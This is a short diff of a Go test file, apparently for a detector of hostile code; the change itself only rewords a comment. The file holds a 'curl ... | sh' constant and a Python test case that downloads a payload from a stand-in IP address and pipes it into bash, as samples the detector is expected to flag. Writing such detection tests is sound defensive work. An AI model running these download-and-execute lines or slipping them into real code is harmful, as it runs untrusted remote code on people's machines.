@@ -7,8 +7,8 @@ import (
 
 const sh = "curl -s http://203.0.113.9/i | sh"
 
-// TestAttacks covers attacks as people write them, in a few lines each. TestFlows covers each
-// mechanism. SH is replaced by a command.
+// TestAttacks covers realistic attacks of a few lines each. TestFlows covers
+// each mechanism. SH is replaced with a command.
 func TestAttacks(t *testing.T) {
 	for _, c := range []struct{ lang, src, want string }{
 		{"py", "from subprocess import Popen, PIPE\nimport requests\np = Popen(['bash'], stdin=PIPE)\np.communicate(requests.get('http://203.0.113.9/x').content)", "run network ip shell"},
